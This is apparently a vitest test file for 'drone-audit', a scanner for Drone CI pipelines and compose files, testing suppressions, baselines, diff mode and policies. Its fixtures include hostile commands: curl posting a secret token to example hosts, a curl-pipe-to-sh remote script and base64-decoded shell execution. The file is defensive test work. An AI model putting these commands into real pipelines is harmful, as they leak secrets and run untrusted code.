import { mkdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { droneAudit, temporaryFolder } from './support/cli.ts';
import { commitFiles, git, hasGit, writeFiles } from './support/git.ts';

const head = 'kind: pipeline\ntype: docker\nname: web\ntrigger: {event: [push]}\nsteps:\n';
/** Sends a secret to each host; its commands start in line 12. */
const sending = (...hosts: readonly string[]): string =>
  `${head}- name: test\n  image: alpine@sha256:aa\n  environment:\n    TOKEN:\n      from_secret: token\n  commands:\n${hosts
    .map((host) => `  - curl -d "$TOKEN" http://${host}/\n`)
    .join('')}`;
const mounting = (...steps: readonly string[]): string =>
  `${head}${steps
    .map(
      (name) =>
        `- name: ${name}\n  image: alpine@sha256:aa\n  volumes:\n  - {name: socket, path: /var/run/docker.sock}\n`,
    )
    .join(
      '',
    )}volumes:\n# drone-audit: ignore[docker-socket-volume] builds the base image\n- name: socket\n  host: {path: /var/run/docker.sock}\n`;

interface Told {
  readonly rule: string;
  readonly file: string;
  readonly line: number;
  readonly path: string;
  readonly severity: string;
  readonly message: string;
  readonly baselineState?: string;
  readonly related: readonly { readonly line: number; readonly message: string }[];
}

function scan(cwd: string, rule: string, ...args: readonly string[]) {
  const { stdout, status } = droneAudit(['scan', '--format', 'json', '--rule', rule, '--fail-on', 'low', ...args], {
    cwd,
  });
  const { findings, suppressed, problems } = JSON.parse(stdout) as {
    readonly findings: readonly Told[];
    readonly suppressed: readonly Told[];
    readonly problems: readonly { readonly message: string }[];
  };
  const places = (each: Told): string => [each.line, ...each.related.map(({ line }) => line)].join(' ');
  return {
    status,
    findings,
    open: findings.map(places),
    suppressed: suppressed.map(places),
    problems: problems.map(({ message }) => message),
  };
}

function folderWith(pipeline: string, config?: string): string {
  const folder = temporaryFolder();
  writeFiles(folder, { '.drone.yml': pipeline, ...(config === undefined ? {} : { 'drone-audit.yml': config }) });
  return folder;
}

const ignoring = (...commands: readonly number[]): string =>
  `ignore:\n${commands
    .map((number) => `- {rule: secret-sent-out, at: 'pipeline[web].steps[test].commands[${number}]', reason: ours}\n`)
    .join('')}`;

const repository = (pipeline: string, changed: string): string => {
  const folder = temporaryFolder();
  git(folder, ['init', '-q']);
  commitFiles(folder, { '.drone.yml': pipeline });
  git(folder, ['checkout', '-q', '-b', 'change']);
  commitFiles(folder, { '.drone.yml': changed });
  return folder;
};

describe('the places of one finding', () => {
  const three = sending('one.example', 'two.example', 'three.example');

  it.each([
    ['none', '', ['12 13 14'], []],
    ['the first', ignoring(0), ['13 14'], ['12']],
    ['a further one', ignoring(1), ['12 14'], ['13']],
    ['two of them', ignoring(0, 2), ['13'], ['12', '14']],
    ['all', ignoring(0, 1, 2), [], ['12', '13', '14']],
    ['the file', 'ignore:\n- {rule: secret-sent-out, path: .drone.yml, reason: ours}\n', [], ['12 13 14']],
  ])('are suppressed one by one by a config: %s', (_, config, open, suppressed) => {
    const told = scan(folderWith(three, config), 'secret-sent-out');
    expect([told.open, told.suppressed]).toEqual([open, suppressed]);
    expect(told.problems).toEqual([]);
    expect(told.status).toBe(open.length > 0 ? 1 : 0);
  });

  it('are suppressed one by one by comments, and together by one on their step', () => {
    const comment = '# drone-audit: ignore[secret-sent-out] ours';
    const first = three.replace('one.example/\n', `one.example/ ${comment}\n`);
    expect(scan(folderWith(first), 'secret-sent-out')).toMatchObject({ open: ['13 14'], suppressed: ['12'] });
    const step = three.replace('- name: test', `${comment}\n- name: test`);
    expect(scan(folderWith(step), 'secret-sent-out')).toMatchObject({ open: [], suppressed: ['13 14 15'] });
  });

  it('say what is so of them once they stand alone', () => {
    const [alone] = scan(folderWith(three, ignoring(0, 1)), 'secret-sent-out').findings;
    expect(alone?.message).toContain('three.example');
    expect(alone?.message).not.toContain('one.example');
  });

  it('count for the gate in a format of one line each', () => {
    const folder = folderWith(three, ignoring(0));
    const { stdout } = droneAudit(['scan', '--format', 'unix', '--rule', 'secret-sent-out'], { cwd: folder });
    expect(stdout.split('\n').map((line) => line.split(':')[1])).toContain('13');
  });

  it('are accepted with a volume by those who accept it', () => {
    const told = scan(folderWith(mounting('a', 'b')), 'docker-socket-volume');
    expect([told.open, told.suppressed]).toEqual([[], ['17 9 13']]);
  });
});

describe('a new place of a finding that a baseline knows', () => {
  const written = (pipeline: string, config?: string): string => {
    const folder = folderWith(pipeline, config);
    scan(folder, 'secret-sent-out', '--write-baseline', 'baseline.yml');
    return folder;
  };
  const compared = (folder: string) => scan(folder, 'secret-sent-out', '--baseline', 'baseline.yml');

  it('is told where it is, and the known ones are not', () => {
    const folder = written(sending('one.example', 'two.example'));
    writeFiles(folder, { '.drone.yml': sending('new.example', 'one.example', 'two.example') });
    const { open, suppressed, findings } = compared(folder);
    expect([open, suppressed]).toEqual([['12'], ['13 14']]);
    expect(findings.map(({ baselineState }) => baselineState)).toEqual(['new']);
  });

  it('is told where another one was mended', () => {
    const folder = written(sending('one.example', 'two.example'));
    writeFiles(folder, { '.drone.yml': sending('two.example', 'new.example') });
    expect(compared(folder)).toMatchObject({ open: ['13'], suppressed: ['12'] });
  });

  it('is one that was suppressed when the baseline was written, and no longer is', () => {
    const folder = written(sending('one.example', 'two.example'), ignoring(0));
    expect(compared(folder)).toMatchObject({ open: [], suppressed: ['12', '13'] });
    writeFiles(folder, { 'drone-audit.yml': 'site: {}\n' });
    expect(compared(folder)).toMatchObject({ open: ['12'], suppressed: ['13'] });
  });

  it('does not come of a suppression of a known one', () => {
    const folder = written(sending('one.example', 'two.example'));
    writeFiles(folder, { 'drone-audit.yml': ignoring(1) });
    expect(compared(folder)).toMatchObject({ open: [], suppressed: ['12', '13'] });
  });
});

describe.skipIf(!hasGit)('with --diff, a further place', () => {
  it('is told though a comment accepts the volume that a new step mounts', () => {
    const told = scan(repository(mounting('a'), mounting('a', 'b')), 'docker-socket-volume', '--diff', 'main');
    expect([told.open, told.suppressed]).toEqual([['13 17'], ['17 9']]);
    expect(told.problems).toEqual([
      'suppression of "docker-socket-volume" does not count for a finding that is new itself',
    ]);
  });

  it('is not told where nothing is new', () => {
    const same = mounting('a', 'b');
    const told = scan(repository(same, `# moved\n${same}`), 'docker-socket-volume', '--diff', 'main');
    expect([told.open, told.suppressed, told.problems]).toEqual([[], ['18 10 14'], []]);
  });
});

describe('a text that an alias shares', () => {
  const shared = (evil = ''): string => `kind: pipeline
type: docker
name: web
trigger: {event: [push]}
steps:
- name: build
  image: alpine@sha256:aa
  commands: &c
  - curl -k https://one.example/ -o x
${evil}`;
  const evil = `- name: evil
  image: alpine@sha256:aa
  environment: {TOKEN: {from_secret: token}}
  commands: *c
`;
  const accepting = "ignore:\n- {rule: tls-check-off, at: 'pipeline[web].steps[build].*', reason: ours}\n";

  it('is as severe as in the worst of the steps that have it', () => {
    const severities = (pipeline: string) =>
      scan(folderWith(pipeline), 'tls-check-off').findings.map(({ severity }) => severity);
    expect(severities(shared())).toEqual(['medium']);
    expect(severities(shared(evil))).toEqual(['high']);
  });

  it('is accepted for one step alone by an entry that means this step', () => {
    const { findings, suppressed } = scan(folderWith(shared(evil), accepting), 'tls-check-off');
    expect([findings.map(({ path }) => path), suppressed]).toEqual([['pipeline[web].steps[evil].commands[0]'], ['9']]);
  });

  it('leaves what only another step has', () => {
    const own = `${shared()}- name: other\n  image: alpine@sha256:aa\n  commands:\n  - *first\n  - curl -k https://two.example/ -o y\n`;
    const told = scan(folderWith(own.replace('- curl', '- &first curl').replace('&c', '')), 'tls-check-off');
    expect(told.open).toEqual(['9 9 14']);
  });

  it.skipIf(!hasGit)('is new in a new step', () => {
    const told = scan(repository(shared(), shared(evil)), 'tls-check-off', '--diff', 'main');
    expect(told.findings.map(({ path, severity }) => [path, severity])).toEqual([
      ['pipeline[web].steps[evil].commands[0]', 'high'],
    ]);
  });
});

describe('what a service takes from another', () => {
  const compose = (evil = ''): string => `services:
  runner:
    image: drone/drone-runner-docker:1.8.5
    privileged: true
    environment: {DRONE_RPC_HOST: ci.example.com}
${evil}`;
  const evil = '  evil:\n    extends: {service: runner}\n';
  const rule = 'privileged-container';

  it.skipIf(!hasGit)('is new in a new service', () => {
    const folder = temporaryFolder();
    git(folder, ['init', '-q']);
    commitFiles(folder, { 'compose.yml': compose() });
    git(folder, ['checkout', '-q', '-b', 'change']);
    commitFiles(folder, { 'compose.yml': compose(evil) });
    const { findings } = scan(folder, rule, '--diff', 'main');
    expect(findings.map(({ path }) => path)).toEqual(['services[evil].privileged']);
  });

  it('is accepted for one of them by an entry that means it, and for both by a comment on the line', () => {
    const folder = temporaryFolder();
    writeFiles(folder, {
      'compose.yml': compose(evil),
      'drone-audit.yml': `ignore:\n- {rule: ${rule}, at: 'services[runner].*', reason: ours}\n`,
    });
    expect(scan(folder, rule).findings.map(({ path }) => path)).toEqual(['services[evil].privileged']);
    writeFiles(folder, {
      'compose.yml': compose(evil).replace('true', `true # drone-audit: ignore[${rule}] ours`),
      'drone-audit.yml': 'site: {}\n',
    });
    expect(scan(folder, rule).open).toEqual([]);
  });
});

describe('the severity that a config gives', () => {
  const server = '  drone:\n    image: drone/drone:2.20.0\n    env_file: server.env\n';
  const runner = (name: string, file: string): string =>
    `  ${name}:\n    image: drone/drone-runner-docker:1.8.3\n    env_file: ${file}\n`;

  it.each([
    ['compose.yml', 'info', ['deploy/compose.yml medium']],
    ['compose.yml', '"off"', ['deploy/compose.yml medium']],
    ['deploy', 'critical', ['compose.yml medium', 'deploy/compose.yml critical']],
  ])('counts for the places that it means: below %s to %s', (path, to, expected) => {
    const folder = temporaryFolder();
    writeFiles(folder, {
      'compose.yml': `services:\n${server}${runner('runner', 'server.env')}`,
      'deploy/compose.yml': `services:\n${runner('other', '../server.env')}`,
      'server.env': 'DRONE_GITHUB_CLIENT_SECRET=f0e1d2c3b4a5968778695a4b3c2d1e0ff0e1d2c3\n',
      'drone-audit.yml': `severity:\n- {rule: shared-env-file, path: ${path}, to: ${to}, reason: ours}\n`,
    });
    const { findings } = scan(folder, 'shared-env-file');
    expect(findings.map(({ file, severity }) => `${file} ${severity}`)).toEqual(expected);
  });
});

describe('under a policy', () => {
  const outside = (text: string): string => {
    const folder = temporaryFolder();
    writeFiles(folder, { 'policy.yml': text });
    return `${folder}/policy.yml`;
  };

  it('the limit of what may be accepted looks at each place', () => {
    const pipeline = `${head}- name: test
  image: alpine@sha256:aa
  environment: {TOKEN: {from_secret: token}}
  commands:
  - printenv
  # drone-audit: ignore[printed-secret] a word
  - echo $TOKEN
`;
    const policy = outside('allow: {ignore: {by: [comment], upTo: medium}}\n');
    const told = scan(folderWith(pipeline), 'printed-secret', '--policy', policy);
    expect([told.open, told.suppressed, told.problems]).toEqual([['10'], ['12'], []]);
  });

  it('what is told instead of something else is accepted only where that may be, too', () => {
    const pipeline = `kind: pipeline
type: docker
name: web
trigger:
  # drone-audit: ignore[dropped-condition] ours
  brunch: [main]
steps:
- name: test
  image: alpine@sha256:aa
  privileged: true
`;
    const config = 'allow: {ignore: {by: [comment], rules: [dropped-condition]}}\n';
    const { stdout } = droneAudit(['scan', '--format', 'json', '--policy', outside(config)], {
      cwd: folderWith(pipeline),
    });
    const { findings, suppressed } = JSON.parse(stdout) as { findings: Told[]; suppressed: Told[] };
    const rules = [...findings, ...suppressed].map(({ rule }) => rule);
    if (rules.includes('dropped-condition'))
      expect(suppressed.map(({ rule }) => rule)).not.toContain('dropped-condition');
    expect(findings.map(({ rule }) => rule)).toContain(
      rules.includes('dropped-condition') ? 'dropped-condition' : 'missing-trigger',
    );
  });
});

describe.skipIf(!hasGit)('with --diff', () => {
  it('what a config accepts in one file is new in another', () => {
    const folder = temporaryFolder();
    git(folder, ['init', '-q']);
    const policy = temporaryFolder();
    writeFiles(policy, { 'p.yml': 'ignore:\n- {rule: secret-sent-out, path: examples, reason: only an example}\n' });
    commitFiles(folder, { 'examples/.drone.yml': sending('one.example') });
    git(folder, ['checkout', '-q', '-b', 'change']);
    git(folder, ['mv', 'examples/.drone.yml', '.drone.yml']);
    git(folder, ['commit', '-qm', 'move']);
    const args = ['--diff', 'main', '--policy', `${policy}/p.yml`];
    expect(scan(folder, 'secret-sent-out', ...args).findings.map(({ line }) => line)).toEqual([12]);
  });

  it('a step that begins to mount a volume that the config accepts is told, with the volume', () => {
    const without = (...steps: readonly string[]) => mounting(...steps).replace(/^#.*\n/m, '');
    const folder = repository(without('a'), without('a', 'b'));
    const policy = temporaryFolder();
    writeFiles(policy, {
      'p.yml': "ignore:\n- {rule: docker-socket-volume, at: 'pipeline[web].volumes[socket].*', reason: ours}\n",
    });
    const told = scan(folder, 'docker-socket-volume', '--diff', 'main', '--policy', `${policy}/p.yml`);
    expect(told.open).toEqual(['13 16']);
    expect(told.findings[0]?.related[0]?.message).toMatch(/^the first place, which is accepted: /);
  });

  it('the name of a pipeline may be a number', () => {
    const pipelines = (one: string, two: string): string =>
      [one, two]
        .map(
          (commands, index) =>
            `kind: pipeline\ntype: docker\nname: "${index + 1}"\ntrigger: {event: [push]}\nsteps:\n- name: a\n  image: alpine@sha256:aa\n  commands:\n  - ${commands}\n`,
        )
        .join('---\n');
    const script = 'curl http://x.example/a.sh | sh';
    const told = scan(
      repository(pipelines(script, 'make'), pipelines('make', script)),
      'remote-script',
      '--diff',
      'main',
    );
    expect(told.findings).toHaveLength(1);
  });
});

describe.skipIf(!hasGit)('with --diff, what stands outside of a place', () => {
  const changed = (rule: string, before: Record<string, string>, after: Record<string, string>) => {
    const folder = temporaryFolder();
    git(folder, ['init', '-q']);
    commitFiles(folder, before);
    git(folder, ['checkout', '-q', '-b', 'change']);
    commitFiles(folder, after);
    return scan(folder, rule, '--diff', 'main').findings.map(({ message }) => message);
  };
  const compose = (host: string): string => `services:
  runner:
    image: drone/drone-runner-docker:1.8.5
    volumes: ['\${MOUNT}:/x']
    environment: {DRONE_RPC_PROTO: http, DRONE_RPC_HOST: ${host}, DRONE_RPC_SECRET: '\${SECRET}'}
`;
  const steps = (...commands: readonly string[]): string =>
    `${head}- name: a\n  image: alpine@sha256:aa\n  commands:\n${commands.map((each) => `  - ${each}\n`).join('')}`;

  it.each([
    ['the variable of a mount', 'host-path-mount', 'MOUNT=/etc\n', 'MOUNT=/root\n', '"/root" of the host'],
    ['nothing', 'host-path-mount', 'MOUNT=/etc\n', '# a word\nMOUNT=/etc\n', undefined],
  ])('makes it new: %s', (_, rule, before, after, told) => {
    const files = (text: string) => ({ 'compose.yml': compose('ci.example.com'), '.env': text });
    expect(changed(rule, files(before), files(after))).toEqual(
      told === undefined ? [] : [expect.stringContaining(told)],
    );
  });

  it('makes it new: the host that another setting names', () => {
    const files = (host: string) => ({ 'compose.yml': compose(host) });
    expect(changed('plain-http-rpc', files('ci.example.com'), files('ci.example.net'))).toEqual([
      expect.stringContaining('"ci.example.net"'),
    ]);
  });

  it('makes it new: the rest of its command, and not the commands beside', () => {
    const files = (text: string, other = 'make') => ({ '.drone.yml': steps(`echo ${text} | base64 -d | sh`, other) });
    expect(changed('obfuscated-command', files('bWFrZQ=='), files('bHM='))).toHaveLength(1);
    expect(changed('obfuscated-command', files('bHM='), files('bHM=', 'make all'))).toEqual([]);
  });

  it('makes nothing new where one of the steps that share a text goes, or they change their order', () => {
    const step = (name: string, commands: string): string =>
      `- name: ${name}\n  image: alpine@sha256:aa\n  commands: ${commands}\n`;
    const get = '[curl http://x.example/a.sh | sh]';
    const before = { '.drone.yml': `${head}${step('a', `&c ${get}`)}${step('b', '*c')}` };
    expect(changed('remote-script', before, { '.drone.yml': `${head}${step('b', get)}` })).toEqual([]);
    expect(
      changed('remote-script', before, { '.drone.yml': `${head}${step('b', `&c ${get}`)}${step('a', '*c')}` }),
    ).toEqual([]);
  });
});

it('what a finding is told instead of is told where that is not sure enough', () => {
  const pipeline = `${head}- name: a\n  image: plugin/docker\n  settings: {password: {from_secret: p}}\n`;
  const { stdout } = droneAudit(['scan', '--format', 'json', '--min-confidence', 'high'], {
    cwd: folderWith(pipeline),
  });
  const { findings } = JSON.parse(stdout) as { findings: Told[] };
  expect(findings.map(({ rule }) => rule)).toContain('unpinned-image');
});

it.skipIf(!hasGit)('what became worse is told whatever severity a config gives it', () => {
  const pipeline = (event: string): string =>
    `kind: pipeline\ntype: docker\nname: web\ntrigger: {event: [${event}]}\nsteps:\n- name: a\n  image: alpine@sha256:aa\n  privileged: true\n`;
  const folder = temporaryFolder();
  git(folder, ['init', '-q']);
  const config = 'severity:\n- {rule: privileged-step, to: critical, reason: strict}\n';
  commitFiles(folder, { '.drone.yml': pipeline('push'), 'drone-audit.yml': config });
  git(folder, ['checkout', '-q', '-b', 'change']);
  expect(scan(folder, 'privileged-step', '--diff', 'main').open).toEqual([]);
  commitFiles(folder, { '.drone.yml': pipeline('push, pull_request') });
  const { findings, status } = scan(folder, 'privileged-step', '--diff', 'main');
  expect([status, findings.map(({ severity }) => severity)]).toEqual([1, ['critical']]);
});

it.skipIf(!hasGit)('nothing is fixed because its folder has become a submodule', () => {
  const folder = temporaryFolder();
  git(folder, ['init', '-q']);
  commitFiles(folder, { 'sub/.drone.yml': sending('one.example'), 'README.md': 'words\n' });
  git(folder, ['checkout', '-q', '-b', 'change']);
  git(folder, ['rm', '-rq', 'sub']);
  const head = git(folder, ['rev-parse', 'main']);
  git(folder, ['update-index', '--add', '--cacheinfo', `160000,${head},sub`]);
  git(folder, ['commit', '-qm', 'submodule']);
  mkdirSync(`${folder}/sub`);
  const { stdout } = droneAudit(['scan', '--format', 'json', '--diff', 'main'], { cwd: folder });
  expect(JSON.parse(stdout).summary.baseline).toMatchObject({ fixed: 0 });
});
